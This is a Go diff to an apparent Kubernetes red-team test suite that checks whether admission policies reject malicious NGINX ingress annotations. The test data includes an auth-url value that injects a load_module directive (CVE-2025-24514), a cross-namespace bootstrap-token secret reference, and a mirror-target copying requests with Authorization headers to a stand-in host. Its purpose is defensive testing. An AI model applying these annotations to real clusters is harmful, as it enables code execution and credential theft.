@@ -30,28 +30,25 @@ func fourthRound() []Attempt {
 func ingressAttempts() []Attempt {
 	const c = "ingress"
 	other := ingressOf("kube-public", "rt-shop", "shop.example.test", nil)
-	withAnnotation := func(key, value string) func(*networkingv1.Ingress) {
-		return func(i *networkingv1.Ingress) { i.Annotations[key] = value }
+	// annotated is the app's Ingress with one annotation more.
+	annotated := func(name, key, value string) func(Base) *unstructured.Unstructured {
+		return ingressOf(Namespace, name, "api.example.test", func(i *networkingv1.Ingress) { i.Annotations[key] = value })
 	}
 	return []Attempt{
 		{Name: "ci-creates-ingress", Class: c, What: "CI: an Ingress (the deployer's Role has none)",
 			As: ci, Op: OpCreate, Object: ingressOf(Namespace, "rt-ci-ingress", "api.example.test", nil),
 			Want: byRBAC(`cannot create resource "ingresses"`)},
 		{Name: "ingress-configuration-snippet", Class: c, What: "a configuration-snippet annotation (NGINX directives for every namespace's controller)",
-			Op: OpCreate, Object: ingressOf(Namespace, "rt-snippet", "api.example.test",
-				withAnnotation("nginx.ingress.kubernetes.io/configuration-snippet", `more_set_headers "X-Red: team";`)),
+			Op: OpCreate, Object: annotated("rt-snippet", "nginx.ingress.kubernetes.io/configuration-snippet", `more_set_headers "X-Red: team";`),
 			Want: byKyverno(polIngress, "configuration-snippet would write NGINX configuration")},
 		{Name: "ingress-auth-url-injection", Class: c, What: "an auth-url ending one directive and starting another (CVE-2025-24514)",
-			Op: OpCreate, Object: ingressOf(Namespace, "rt-auth-url", "api.example.test",
-				withAnnotation("nginx.ingress.kubernetes.io/auth-url", "http://auth.example.test/#;\nload_module /tmp/x.so;")),
+			Op: OpCreate, Object: annotated("rt-auth-url", "nginx.ingress.kubernetes.io/auth-url", "http://auth.example.test/#;\nload_module /tmp/x.so;"),
 			Want: byKyverno(polIngress, "annotation-value-word-blocklist")},
 		{Name: "ingress-secret-of-kube-system", Class: c, What: "client certificates checked against a Secret of kube-system, which the controller would read",
-			Op: OpCreate, Object: ingressOf(Namespace, "rt-tls-secret", "api.example.test",
-				withAnnotation("nginx.ingress.kubernetes.io/auth-tls-secret", "kube-system/bootstrap-token-abcdef")),
-			Want: byKyverno(polIngress, "names a Secret of another namespace")},
+			Op: OpCreate, Object: annotated("rt-tls-secret", "nginx.ingress.kubernetes.io/auth-tls-secret", "kube-system/bootstrap-token-abcdef"),
+			Want: byKyverno(polIngress, "names a Secret or ConfigMap of another namespace")},
 		{Name: "ingress-mirror", Class: c, What: "every request, Authorization header included, mirrored to another host",
-			Op: OpCreate, Object: ingressOf(Namespace, "rt-mirror", "api.example.test",
-				withAnnotation("nginx.ingress.kubernetes.io/mirror-target", "https://collector.example.net/x")),
+			Op: OpCreate, Object: annotated("rt-mirror", "nginx.ingress.kubernetes.io/mirror-target", "https://collector.example.net/x"),
 			Want: byKyverno(polIngress, "would copy every request")},
 		{Name: "ingress-catch-all", Class: c, What: "a rule without a host (every host no other Ingress names)",
 			Op: OpCreate, Object: ingressOf(Namespace, "rt-catch-all", "", nil),
@@ -73,8 +70,7 @@ func ingressAttempts() []Attempt {
 			},
 			Want: byKyverno(polIngress, "server-snippet would write NGINX configuration")},
 		{Name: "control-ingress", Class: c, What: "an Ingress for the app's own host, with its own namespace's client CA",
-			Op: OpCreate, Object: ingressOf(Namespace, "rt-good-ingress", "api.example.test",
-				withAnnotation("nginx.ingress.kubernetes.io/auth-tls-secret", Namespace+"/client-ca")),
+			Op: OpCreate, Object: annotated("rt-good-ingress", "nginx.ingress.kubernetes.io/auth-tls-secret", Namespace+"/client-ca"),
 			Want: admitted},
 	}
 }
